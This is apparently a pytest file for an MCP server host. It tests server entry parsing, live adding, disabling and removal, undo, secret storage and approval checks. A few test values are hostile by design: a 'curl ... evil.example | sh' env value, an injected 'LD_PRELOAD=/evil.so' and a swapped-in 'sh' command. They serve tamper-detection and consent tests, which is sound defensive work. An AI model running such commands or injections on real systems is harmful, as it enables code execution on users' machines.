"""Tests for adding, changing, disabling, removing and restoring servers while the host runs."""

import json
import sys
from collections.abc import AsyncIterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import anyio
import pytest

from mcphost.config.approval_digest import with_file_digests
from mcphost.config.loader import load_config, make_project_file
from mcphost.config.rule_syntax import parse_rule
from mcphost.config.schema import ServerConfig
from mcphost.config.server_files import ServerEdit, plan_set, scope_file
from mcphost.config.server_inputs import save_input_value
from mcphost.config.typed_servers import parse_entry, parse_server_text
from mcphost.errors import ConfigError, ConsentDenied, McpHostError, ServerError, StoreError, UsageError
from mcphost.host.audit.audit_log import create_in_memory_log
from mcphost.host.events import ServerState, ToolFinished, ToolStarted
from mcphost.host.host import Host
from mcphost.host.questions.questions import DoNotTrust, TrustAlways, TrustOnce, TrustServer
from mcphost.host.servers.server_approval import approve_project, load_approved_project
from mcphost.host.servers.server_data import SecretDeletionError, UnreadableReferencesError
from mcphost.host.servers.server_file_editor import ServerFileEditor
from mcphost.host.setup import Setup
from mcphost.store.database import Database
from mcphost.store.grants import Grant, GrantStore
from tests.fakes.frontend import ScriptedFrontend
from tests.fakes.memory_backend import MemoryBackend
from tests.unit.host.setup_host import DEMO_ENTRY, open_setup, write_servers

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize(
    ("text", "name", "entries"),
    [
        (
            "uvx mcp-server-time --tz 'Europe/Rome'",
            "",
            {"time": {"command": "uvx", "args": ["mcp-server-time", "--tz", "Europe/Rome"]}},
        ),
        (
            "npx -y @scope/server-files .",
            "",
            {"files": {"command": "npx", "args": ["-y", "@scope/server-files", "."]}},
        ),
        (
            "docker run -i --rm mcp/time",
            "",
            {"time": {"command": "docker", "args": ["run", "-i", "--rm", "mcp/time"]}},
        ),
        ("/opt/tool", "mine", {"mine": {"command": "/opt/tool"}}),
        (" https://mcp.linear.app/mcp ", "", {"linear": {"url": "https://mcp.linear.app/mcp"}}),
        ('{"mcpServers": {"a": {"command": "b"}}}', "", {"a": {"command": "b"}}),
        ('{"mcpServers": {"a": {"command": "b"}}}', "c", {"c": {"command": "b"}}),
        ('```json\n"a": {"url": "https://x"},\n```', "", {"a": {"url": "https://x"}}),
    ],
)
def test_a_command_line_a_url_or_json_becomes_entries(text: str, name: str, entries: dict[str, Any]) -> None:
    assert parse_server_text(text, name) == entries


@pytest.mark.parametrize(
    ("text", "name", "entries"),
    [
        ("falsy -- /bin/false -x", "", {"falsy": {"command": "/bin/false", "args": ["-x"]}}),
        ("falsy -- /bin/false", "mine", {"mine": {"command": "/bin/false"}}),
        (
            "mcphost servers add time -- uvx mcp-server-time",
            "",
            {"time": {"command": "uvx", "args": ["mcp-server-time"]}},
        ),
        ("claude mcp add env -- uvx a", "", {"env": {"command": "uvx", "args": ["a"]}}),
        ("mcphost servers add gh npx -y x", "", {"gh": {"command": "npx", "args": ["-y", "x"]}}),
        ("mcphost servers add web https://a.example/mcp", "", {"web": {"url": "https://a.example/mcp"}}),
        ("newprog -- --port 3", "x", {"x": {"command": "newprog", "args": ["--", "--port", "3"]}}),
        ("env -- server", "x", {"x": {"command": "env", "args": ["--", "server"]}}),
    ],
)
def test_a_name_before_two_hyphens_is_no_program(text: str, name: str, entries: dict[str, Any]) -> None:
    assert parse_server_text(text, name) == entries


@pytest.mark.parametrize("text", ["example.com/mcp", "mcphost servers add web example.com/mcp"])
def test_a_url_without_its_scheme_is_no_program(text: str) -> None:
    with pytest.raises(UsageError) as exc_info:
        parse_server_text(text)
    assert exc_info.value.hint == "Did you mean https://example.com/mcp?"


@pytest.mark.parametrize(
    "text",
    ["127.0.0.1:18773/mcp", "localhost:8000/mcp", "localhost/mcp", "127.0.0.1:80", "localhost:8000", "[::1]:80/mcp"],
)
def test_a_loopback_address_without_its_scheme_is_proposed_without_tls(text: str) -> None:
    with pytest.raises(UsageError) as exc_info:
        parse_server_text(text)
    assert exc_info.value.hint == f"Did you mean http://{text}?"


def test_an_address_with_any_scheme_is_a_url() -> None:
    assert parse_server_text("HTTPS://mcp.example.com/mcp") == {"example": {"url": "HTTPS://mcp.example.com/mcp"}}
    assert parse_server_text("web -- HTTPS://a.example/mcp") == {"web": {"url": "HTTPS://a.example/mcp"}}


@pytest.mark.parametrize("text", ["", "  ", "uvx 'open", '{"a": 1}', "{", "https://[bad"])
def test_a_text_without_a_server_is_an_error(text: str) -> None:
    with pytest.raises(McpHostError):
        parse_server_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "mcphost servers add files --scope local -- npx x",
        "claude mcp add --client-id x gh https://a.example/mcp",
        "claude mcp add gh --",
        "mcphost servers add",
        "mcphost servers add x --",
    ],
)
def test_options_of_an_add_command_are_refused_and_never_run_that_command(text: str) -> None:
    with pytest.raises(UsageError, match=r"Options of '(mcphost servers|claude mcp) add' are not read here"):
        parse_server_text(text)


def test_an_edited_entry_must_be_an_object() -> None:
    assert parse_entry('{"command": "a", // note\n}', "x") == {"command": "a"}
    with pytest.raises(ConfigError, match="not an object"):
        parse_entry("[]", "x")


def configured_names(home: Path) -> list[str]:
    return [server.name for server in load_config(home / "config").servers]


async def test_a_server_is_added_used_disabled_enabled_and_removed_without_a_restart(
    tmp_path: Path,
) -> None:
    frontend = ScriptedFrontend(TrustOnce(), TrustOnce())
    async with open_setup(tmp_path, frontend=frontend) as (host, setup):
        editor = setup.server_editor
        await editor.add({"demo": DEMO_ENTRY})
        view = await host.servers.ensure_ready("demo")
        assert view.catalog.tools
        assert len(frontend.asked) == 1
        connection, feed = host.servers.find("demo"), host.events.subscribe()
        await editor.set_disabled("demo", disabled=True)
        assert host.servers.view("demo").state == "disabled"
        assert {event.state for event in feed.drain() if isinstance(event, ServerState)} == {"stopped"}  # no failure
        with pytest.raises(ServerError, match="You disabled demo"):
            await connection.session()
        await editor.set_disabled("demo", disabled=False)
        assert (await host.servers.ensure_ready("demo")).catalog.tools
        await editor.remove("demo")
        assert host.servers.views() == ()
    assert configured_names(tmp_path) == []


async def test_the_log_of_a_failed_server_can_still_be_read_after_it_was_disabled(tmp_path: Path) -> None:
    crashing = {"command": sys.executable, "args": ["-c", "import sys; sys.exit('no such database')"]}
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await setup.server_editor.add({"bad": crashing})
        with pytest.raises(ServerError, match="no such database"):
            await host.servers.ensure_ready("bad")
        await setup.server_editor.set_disabled("bad", disabled=True)
        view = host.servers.view("bad")
        assert view.state == "disabled"
        assert "no such database" in [line.text for line in view.log]


async def test_the_last_lines_of_a_disabled_server_do_not_explain_an_error_after_it_was_enabled(tmp_path: Path) -> None:
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await setup.server_editor.add({"demo": DEMO_ENTRY})
        await host.servers.ensure_ready("demo")
        earlier = host.servers.find("demo")
        earlier.stderr("before")
        await setup.server_editor.set_disabled("demo", disabled=True)
        await setup.server_editor.set_disabled("demo", disabled=False)
        await host.servers.ensure_ready("demo")
        earlier.stderr("the earlier process is still stopping")
        now = host.servers.find("demo").log_buffer
        assert "before" in [line.text for line in now.lines()]
        assert "still stopping" not in now.describe_stderr()


async def test_a_call_that_ends_because_its_server_is_disabled_says_so(tmp_path: Path) -> None:
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await setup.server_editor.add({"demo": DEMO_ENTRY})
        await host.servers.ensure_ready("demo")
        feed = host.events.subscribe()

        async def disable_when_started() -> None:
            async for event in feed:
                if isinstance(event, ToolStarted):
                    await setup.server_editor.set_disabled("demo", disabled=True)
                    return

        async with anyio.create_task_group() as group:
            group.start_soon(disable_when_started)
            with pytest.raises(ServerError, match="You disabled demo"):
                await host.tools.call("demo", "count_slowly", {"to": 5, "seconds": 60})
        finished = [event for event in feed.drain() if isinstance(event, ToolFinished)]
    assert [event.text for event in finished] == ["You disabled demo. The tool may have run."]


async def test_an_added_entry_sets_nothing_that_only_the_user_may_decide(tmp_path: Path) -> None:
    async with open_setup(tmp_path, frontend=ScriptedFrontend(DoNotTrust())) as (host, setup):
        editor = setup.server_editor
        entry = {**DEMO_ENTRY, "mcphost": {"trustAnnotations": True, "reviewResults": True}}
        (saved,) = await editor.add({"demo": entry})
        assert '"mcphost.trustAnnotations"' in saved.notes[0]
        assert (await editor.read_entry("demo"))["mcphost"] == {"reviewResults": True}
        assert host.servers.view("demo").config.trust_annotations is False
        await editor.change("demo", entry)  # an edited entry is the user's own
        assert host.servers.view("demo").config.trust_annotations is True


async def test_the_approval_of_a_pasted_entry_shows_values_that_may_be_code(tmp_path: Path) -> None:
    frontend = ScriptedFrontend(DoNotTrust())
    env = {"DOCS_AUTH_TOKEN": "curl -s https://evil.example/x | sh", "ONE_TOKEN": "hunter2-is-secret", "PORT": 5}
    async with open_setup(tmp_path, frontend=frontend) as (host, setup):
        await setup.server_editor.add({"demo": {**DEMO_ENTRY, "env": env}})
        with pytest.raises(ConsentDenied):
            await host.servers.ensure_ready("demo")
        written = await setup.server_editor.read_entry("demo")
    assert written["env"]["DOCS_AUTH_TOKEN"] == "${keyring:demo-docs_auth_token}"
    (asked,) = frontend.asked
    assert isinstance(asked, TrustServer)
    assert asked.environment == {
        "DOCS_AUTH_TOKEN": "curl -s https://evil.example/x | sh", "ONE_TOKEN": "${keyring:demo-one_token}", "PORT": "5",
    }  # fmt: skip


async def test_a_server_of_this_folder_is_added_to_the_file_of_its_scope_and_works(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        editor = setup.server_editor
        await editor.add({"demo": DEMO_ENTRY}, "local")
        assert (await host.servers.ensure_ready("demo")).config.file == str(editor.list_files()["local"])
        assert not editor.list_files()["user"].exists()
        await editor.undo()
        assert host.servers.views() == ()
        editor.list_files()["project"].write_text("{}")
        (saved,) = await editor.add({"demo": DEMO_ENTRY}, "project")
        assert saved.server is None  # the project's file is not approved
        assert host.servers.views() == ()
        assert "demo" in editor.list_files()["project"].read_text()


async def test_another_file_with_an_entry_of_the_name_is_known_and_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "project").mkdir()
    monkeypatch.chdir(tmp_path / "project")
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce(), TrustOnce())) as (host, setup):
        editor = setup.server_editor
        files = editor.list_files()
        await editor.add({"demo": DEMO_ENTRY}, "local")
        assert await editor.find_other_files("demo") == ()
        await editor.add({"demo": {**DEMO_ENTRY, "env": {"OWN": "1"}}}, "user")
        assert await editor.find_other_files("demo") == (str(files["user"]),)
        before = files["user"].read_text()
        await editor.remove("demo")
        assert files["user"].read_text() == before
        assert host.servers.view("demo").config.file == str(files["user"])


async def test_an_entry_that_changed_while_it_was_edited_is_not_overwritten(tmp_path: Path) -> None:
    frontend = ScriptedFrontend(*[TrustOnce()] * 5)
    async with open_setup(tmp_path, frontend=frontend) as (_, setup):
        editor = setup.server_editor
        (added,) = await editor.add({"demo": DEMO_ENTRY})
        opened = await editor.read_entry("demo")
        file = added.edit.file.path
        file.write_text(file.read_text().replace('"command"', '"timeout": 7000, "command"'))
        changed = file.read_text()
        with pytest.raises(ConfigError, match="changed meanwhile"):
            await editor.change("demo", {**opened, "env": {"A": "1"}}, expected=opened)
        assert file.read_text() == changed
        await editor.change("demo", {**opened, "env": {"A": "1"}}, expected=await editor.read_entry("demo"))
        assert "7000" not in file.read_text()


async def test_each_change_is_taken_back_in_turn(tmp_path: Path) -> None:
    frontend = ScriptedFrontend(*[TrustOnce()] * 5)
    async with open_setup(tmp_path, frontend=frontend) as (host, setup):
        editor = setup.server_editor
        await editor.add({"demo": DEMO_ENTRY})
        await editor.change("demo", {**DEMO_ENTRY, "env": {"A": "1"}})
        assert host.servers.view("demo").config.env == {"A": "1"}
        assert (await editor.read_entry("demo"))["env"] == {"A": "1"}
        await editor.remove("demo")
        assert await editor.undo() == "demo"
        assert host.servers.view("demo").config.env == {"A": "1"}
        await editor.undo()
        assert host.servers.view("demo").config.env == {}
        await editor.undo()
        assert host.servers.views() == ()
        assert not editor.can_undo
        with pytest.raises(UsageError, match="no change"):
            await editor.undo()


TOKEN = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
INPUTS = [
    {"id": "key", "type": "promptString", "password": True},
    {"id": "region", "type": "promptString"},
]


class VisibleBackend(MemoryBackend):
    """A secret store whose content the test can read."""

    def __init__(self) -> None:
        super().__init__()
        self.secrets: dict[str, str] = {}

    async def get(self, name: str) -> str | None:
        """Return the secret, or None if it is not stored."""
        return self.secrets.get(name)

    async def set(self, name: str, secret: str) -> None:
        """Store the secret."""
        self.secrets[name] = secret

    async def delete(self, name: str) -> None:
        """Remove the secret."""
        self.secrets.pop(name, None)


async def add_server_with_data(home: Path, host: Host, setup: Setup, backend: MemoryBackend) -> Path:
    """Add a server with a secret, two input values and an unpacked MCPB bundle; return the bundle's folder."""
    bundle = home / "data" / "bundles" / "demo-1"
    bundle.mkdir(parents=True)
    (bundle / "server.py").write_text("from mcphost.demo.server import main\nmain()\n")
    entry = {
        "command": sys.executable,
        "args": [str(bundle / "server.py")],
        "env": {"API_TOKEN": TOKEN, "KEY": "${input:key}", "REGION": "${input:region}"},
        "mcphost": {"inputs": INPUTS},
    }
    editor = setup.server_editor
    await editor.add({"demo": entry})
    server = host.servers.view("demo").config
    key, region = server.inputs
    await backend.set(key.keyring_entry, "the key")
    save_input_value(home / "config", server, region.id, "the region")
    await editor.change("demo", await editor.read_entry("demo"))  # reads the value of the input
    return bundle


class LockedBackend(VisibleBackend):
    """A secret store from which nothing can be deleted while `is_locked` is set."""

    is_locked = False

    async def delete(self, name: str) -> None:
        """Remove the secret, or raise McpHostError while the store is locked."""
        if self.is_locked:
            raise McpHostError("The keyring is locked.", "Unlock it.")
        await super().delete(name)


def server_names(host: Host) -> list[str]:
    """Return the names of the host's current servers."""
    return [connection.config.name for connection in host.servers]


async def test_removal_names_all_secrets_that_could_not_be_deleted(tmp_path: Path) -> None:
    backend = LockedBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        backend.is_locked = True
        with pytest.raises(SecretDeletionError) as caught:
            await setup.server_editor.remove("demo", forgets=True)
        assert len(stored) == 2
        assert all(name in caught.value.message for name in stored)
        assert "The keyring is locked." in caught.value.message
        assert caught.value.hint == "Unlock it."
        assert server_names(host) == []
        assert "the region" not in (tmp_path / "config" / "inputs.json").read_text()
        await setup.server_editor.undo()
        assert server_names(host) == ["demo"]
        assert backend.secrets == stored


async def test_an_undone_addition_that_leaves_a_secret_is_undone_once_and_names_the_secret(tmp_path: Path) -> None:
    backend = LockedBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await setup.server_editor.add({"demo": DEMO_ENTRY | {"env": {"API_TOKEN": TOKEN}}})
        (name,) = backend.secrets
        backend.is_locked = True
        with pytest.raises(SecretDeletionError, match=name):
            await setup.server_editor.undo()
        assert server_names(host) == []
        assert not setup.server_editor.can_undo


async def test_removal_keeps_what_is_stored_for_the_server(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        bundle = await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        assert sorted(stored.values()) == [TOKEN, "the key"]
        await setup.server_editor.remove("demo")
        assert backend.secrets == stored
    assert bundle.is_dir()
    assert "the region" in (tmp_path / "config" / "inputs.json").read_text()


async def test_removal_with_its_data_is_undone_with_its_data(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        bundle = await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        data = setup.server_editor.find_data("demo")
        assert set(data.secrets) == stored.keys()
        assert [one.id for one in data.inputs] == ["region"]
        assert data.bundle == bundle
        await setup.server_editor.remove("demo", forgets=True)
        assert backend.secrets == {}
        assert "the region" not in (tmp_path / "config" / "inputs.json").read_text()
        await setup.server_editor.undo()
        assert backend.secrets == stored
        assert [one.stored_value for one in host.servers.view("demo").config.inputs] == [None, "the region"]
    assert bundle.is_dir()


async def test_removal_with_its_data_keeps_a_secret_that_an_entry_elsewhere_refers_to(tmp_path: Path) -> None:
    backend = VisibleBackend()
    entry = {"command": "run", "env": {"TOKEN": "${keyring:demo-token}"}, "disabled": True}
    (tmp_path / "config").mkdir()
    local = tmp_path / "config" / "local.json"
    local.write_text(json.dumps({"folders": {"/elsewhere": {"mcpServers": {"demo": entry}}}}))
    async with open_setup(tmp_path, backend=backend) as (_, setup):
        await setup.server_editor.add({"demo": {**entry, "env": {"TOKEN": TOKEN, "API_KEY": TOKEN}}})
        assert set(backend.secrets) == {"demo-token", "demo-api_key"}
        assert (await setup.server_editor.find_deletable("demo")).secrets == ("demo-api_key",)
        await setup.server_editor.remove("demo", forgets=True)
        assert set(backend.secrets) == {"demo-token"}
        await setup.server_editor.undo()
        assert set(backend.secrets) == {"demo-token", "demo-api_key"}
        local.write_text('{"${keyring:')  # what it refers to cannot be known
        assert (await setup.server_editor.find_deletable("demo")).secrets == ()
        with pytest.raises(SecretDeletionError, match="These secrets were not deleted: ") as caught:
            await setup.server_editor.remove("demo", forgets=True)
        assert set(backend.secrets) == {"demo-token", "demo-api_key"}
        assert all(name in caught.value.message for name in (*backend.secrets, str(local)))
        assert "undo the removal" in caught.value.hint
        assert "${keyring:demo-token}" not in (tmp_path / "config" / "mcp.json").read_text()


async def test_a_secret_that_a_change_leaves_behind_is_deleted_and_comes_back_with_undo(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 4)) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        entry = await setup.server_editor.read_entry("demo")
        env = {key: text for key, text in entry["env"].items() if key != "API_TOKEN"}
        saved = await setup.server_editor.change("demo", {**entry, "env": env})
        assert saved.notes == ("Deleted, as nothing refers to it any more: demo-api_token.",)
        assert backend.secrets == {name: secret for name, secret in stored.items() if name != "demo-api_token"}
        await setup.server_editor.change("demo", {**entry, "env": {**env, "API_TOKEN": "another-secret-1"}})
        assert backend.secrets["demo-api_token"] == "another-secret-1"
        await setup.server_editor.undo()
        await setup.server_editor.undo()
        assert backend.secrets == stored
        assert (await setup.server_editor.read_entry("demo"))["env"] == entry["env"]


@pytest.mark.parametrize("answer", [TrustOnce(), TrustAlways()], ids=["once", "always"])
async def test_a_save_that_only_moves_a_secret_of_an_approved_server_asks_nothing(tmp_path: Path, answer: Any) -> None:
    backend, frontend = VisibleBackend(), ScriptedFrontend(answer, DoNotTrust())
    entry = {**DEMO_ENTRY, "env": {"API_TOKEN": TOKEN}}
    write_servers(tmp_path, demo=entry)
    async with open_setup(tmp_path, backend=backend, frontend=frontend) as (host, setup):
        editor = setup.server_editor
        host.servers.start("demo")
        await host.servers.ensure_ready("demo")
        saved = await editor.change("demo", {**entry, "timeout": 50})
        assert backend.secrets == {"demo-api_token": TOKEN}
        assert saved.server is not None
        assert saved.server.env == {"API_TOKEN": "${keyring:demo-api_token}"}
        await host.servers.ensure_ready("demo")
        await editor.undo()
        await host.servers.ensure_ready("demo")
        assert len(frontend.asked) == 1
        await editor.change("demo", {**entry, "timeout": 50, "args": [*entry["args"], "-v"]})
        with pytest.raises(ConsentDenied):
            await host.servers.ensure_ready("demo")
        assert len(frontend.asked) == 2


async def test_permissions_stay_when_a_save_moves_a_secret_of_their_server(tmp_path: Path) -> None:
    frontend = ScriptedFrontend(TrustAlways())
    entry = {**DEMO_ENTRY, "env": {"API_TOKEN": TOKEN}}
    write_servers(tmp_path, demo=entry)
    async with open_setup(tmp_path, backend=VisibleBackend(), frontend=frontend) as (host, setup):
        await host.servers.ensure_ready("demo")
        database = Database(tmp_path / "store.db")
        digest = host.servers.find("demo").digest
        await GrantStore(database).add(Grant(rule=parse_rule("demo/add"), server_digest=digest, tools={}))
        await database.close()
        await setup.server_editor.change("demo", {**entry, "timeout": 50})
        await host.servers.ensure_ready("demo")
        assert [status.state for status in await host.grants.list_grants()] == ["counts"]


async def test_undo_leaves_the_keyring_alone_if_another_program_changed_the_file(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 4)) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        entry = await setup.server_editor.read_entry("demo")
        await setup.server_editor.change("demo", {key: value for key, value in entry.items() if key != "env"})
        file = tmp_path / "config" / "mcp.json"
        file.write_text(file.read_text() + "\n")
        backend.secrets["demo-api_token"] = "stored by another program"
        stored = dict(backend.secrets)
        with pytest.raises(ConfigError, match="nothing was undone"):
            await setup.server_editor.undo()
        assert backend.secrets == stored


async def test_a_secret_that_cannot_be_deleted_after_a_change_is_named(tmp_path: Path) -> None:
    backend = LockedBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 3)) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        backend.is_locked = True
        stored = dict(backend.secrets)
        saved = await setup.server_editor.change("demo", DEMO_ENTRY)
        assert saved.notes == (
            "A secret that nothing refers to is still stored: demo-api_token. The keyring is locked.",
        )
        assert backend.secrets == stored


async def test_a_secret_that_stays_after_a_change_because_a_file_cannot_be_read_is_named(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 3)) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        local = tmp_path / "config" / "local.json"
        local.write_text('{"${keyring:')
        (note,) = (await setup.server_editor.change("demo", DEMO_ENTRY)).notes
        assert note.startswith(f"These secrets were not deleted: demo-api_token. {local}")
        assert "remove it again" in note
        assert backend.secrets == stored


async def test_a_change_takes_effect_if_the_approved_projects_cannot_be_listed_and_names_the_kept_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def fail(grants: GrantStore, name: str) -> tuple[str, ...]:
        raise StoreError("The disk is full.", "Free disk space.")

    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 3)) as (host, setup):
        await add_server_with_data(tmp_path, host, setup, backend)
        stored = dict(backend.secrets)
        monkeypatch.setattr(GrantStore, "list_trusted_files", fail)
        saved = await setup.server_editor.change("demo", DEMO_ENTRY)
        (note,) = saved.notes
        assert note.startswith("These secrets were not deleted: demo-api_token. The disk is full.")
        assert not host.servers.find("demo").config.env
        assert backend.secrets == stored


async def test_a_bundle_is_deleted_when_the_removal_can_no_longer_be_undone(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        bundle = await add_server_with_data(tmp_path, host, setup, backend)
        await setup.server_editor.remove("demo", forgets=True)
        assert bundle.is_dir()
    assert not bundle.exists()
    assert bundle.parent.is_dir()


async def test_data_that_another_server_uses_is_not_deleted(tmp_path: Path) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(*[TrustOnce()] * 2)) as (host, setup):
        bundle = await add_server_with_data(tmp_path, host, setup, backend)
        name = next(name for name, secret in backend.secrets.items() if secret == TOKEN)
        other = {"command": sys.executable, "args": [str(bundle / "x.py")], "env": {"A": f"${{keyring:{name}}}"}}
        await setup.server_editor.add({"other": other})
        await setup.server_editor.remove("demo", forgets=True)
        assert backend.secrets == {name: TOKEN}
    assert bundle.is_dir()


@pytest.mark.parametrize("place", ["another folder", "another project", "a broken file"])
async def test_a_bundle_that_an_entry_elsewhere_uses_is_kept(tmp_path: Path, place: str) -> None:
    backend = VisibleBackend()
    async with open_setup(tmp_path, backend=backend, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        bundle = await add_server_with_data(tmp_path, host, setup, backend)
        servers = {"mcpServers": {"same": {"command": "node", "args": [str(bundle / "server.py")]}}}
        (tmp_path / "elsewhere").mkdir()
        if place == "another folder":
            local = json.dumps({"folders": {str(tmp_path / "elsewhere"): servers}})
            (tmp_path / "config" / "local.json").write_text(local)
        elif place == "another project":
            file = tmp_path / "elsewhere" / ".mcp.json"
            file.write_text(json.dumps(servers))
            project = make_project_file(file, file.read_bytes())
            database = Database(tmp_path / "store.db")
            await approve_project(GrantStore(database), host.audit, project)
            await database.close()
        else:
            (tmp_path / "config" / "local.json").write_text(json.dumps(servers)[:-1])
        deletable = await setup.server_editor.find_deletable("demo")
        assert deletable.bundle is None
        with suppress(UnreadableReferencesError):
            await setup.server_editor.remove("demo", forgets=True)
    assert (bundle / "server.py").is_file()


async def test_a_file_that_was_changed_by_another_program_is_not_overwritten_by_undo(tmp_path: Path) -> None:
    async with open_setup(tmp_path, frontend=ScriptedFrontend(TrustOnce())) as (host, setup):
        await setup.server_editor.add({"demo": DEMO_ENTRY})
        file = tmp_path / "config" / "mcp.json"
        file.write_text(file.read_text() + "\n")
        with pytest.raises(ConfigError, match="changed by another program"):
            await setup.server_editor.undo()
        assert [view.name for view in host.servers.views()] == ["demo"]


async def test_an_invalid_entry_changes_nothing(tmp_path: Path) -> None:
    async with open_setup(tmp_path) as (host, setup):
        with pytest.raises(McpHostError):
            await setup.server_editor.add({"bad": {"command": 3}})
        assert host.servers.views() == ()
        assert not setup.server_editor.can_undo
    assert configured_names(tmp_path) == []


async def test_of_a_projects_file_only_what_was_written_is_approved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    database = Database(tmp_path / "s.db")
    grants, audit = GrantStore(database), create_in_memory_log()
    editor = ServerFileEditor(tmp_path / "config", tmp_path, grants, audit, MemoryBackend())
    saved = await editor.add("one", DEMO_ENTRY, "project")
    assert (await load_approved_project(grants, tmp_path))[0] is not None
    apply = ServerEdit.apply

    def apply_and_lose_the_race(edit: ServerEdit) -> None:
        apply(edit)
        edit.file.path.write_text('{"mcpServers": {"evil": {"command": "sh"}}}')

    monkeypatch.setattr(ServerEdit, "apply", apply_and_lose_the_race)
    assert saved.server is not None
    await editor.set_disabled(saved.server, disabled=True)
    assert (await load_approved_project(grants, tmp_path))[0] is None
    await database.close()


class EditedServer:
    """A server whose environment file was approved as `A=1`, and the editor of its file."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.env_file = folder / "settings.env"
        self.env_file.write_text("A=1")
        self.entry = {"command": "run", "envFile": str(self.env_file)}
        self.database = Database(folder / "s.db")
        self.grants = GrantStore(self.database)
        self.secrets = MemoryBackend()
        self.editor = ServerFileEditor(folder / "config", folder, self.grants, create_in_memory_log(), self.secrets)

    async def add(self, **options: Any) -> ServerConfig:
        """Add the server and return it."""
        saved = await self.editor.add("one", self.entry, **options)
        assert saved.server is not None
        return saved.server

    async def is_approved(self, variables: str = "") -> bool:
        """Return whether the server is approved as configured, with *variables* in its file unless they are empty."""
        if variables:
            self.env_file.write_text(variables)
        server = await self.editor.load_server("one")
        assert server is not None
        return await self.editor.is_approved(server)


@pytest.fixture
async def edited(tmp_path: Path) -> AsyncIterator[EditedServer]:
    server = EditedServer(tmp_path)
    yield server
    await server.database.close()


@pytest.mark.parametrize("is_new", [True, False])
async def test_variables_changed_while_a_server_is_written_are_not_approved(
    edited: EditedServer, monkeypatch: pytest.MonkeyPatch, is_new: bool
) -> None:
    server = None if is_new else await edited.add()
    apply = ServerEdit.apply

    def apply_and_lose_the_race(edit: ServerEdit) -> None:
        apply(edit)
        edited.env_file.write_text("LD_PRELOAD=/evil.so")

    monkeypatch.setattr(ServerEdit, "apply", apply_and_lose_the_race)
    await (edited.add() if server is None else edited.editor.change(server, {**edited.entry, "args": ["x"]}))
    assert not await edited.is_approved()
    assert await edited.is_approved("A=1")


async def test_variables_changed_after_the_old_entry_was_found_approved_are_not_approved(
    edited: EditedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = await edited.add()
    find_trusted = GrantStore.find_trusted

    async def find_and_lose_the_race(grants: GrantStore, name: str) -> Any:
        found = await find_trusted(grants, name)
        edited.env_file.write_text("LD_PRELOAD=/evil.so")
        return found

    monkeypatch.setattr(GrantStore, "find_trusted", find_and_lose_the_race)
    await edited.editor.change(server, {**edited.entry, "args": ["x"]})
    monkeypatch.undo()
    assert not await edited.is_approved()
    assert await edited.is_approved("A=1")


@pytest.mark.parametrize("is_new", [True, False])
async def test_variables_changed_since_they_were_shown_are_not_approved(edited: EditedServer, is_new: bool) -> None:
    server = None if is_new else await edited.add(is_approved=False)
    file = scope_file("user", edited.editor.config_dir, edited.folder)
    planned = plan_set(file, "one", edited.entry, replace=True).server
    assert planned is not None
    seen = with_file_digests(planned)
    edited.env_file.write_text("LD_PRELOAD=/evil.so")
    await (edited.add(seen=seen) if server is None else edited.editor.change(server, edited.entry, seen=seen))
    assert not await edited.is_approved()
    assert await edited.is_approved("A=1")


async def test_an_entry_that_another_program_wrote_in_its_place_is_not_approved(
    edited: EditedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    apply = ServerEdit.apply

    def apply_and_lose_the_race(edit: ServerEdit) -> None:
        apply(edit)
        edit.file.path.write_text(edit.file.path.read_text().replace('"run"', '"evil"'))

    monkeypatch.setattr(ServerEdit, "apply", apply_and_lose_the_race)
    saved = await edited.editor.add("one", edited.entry)
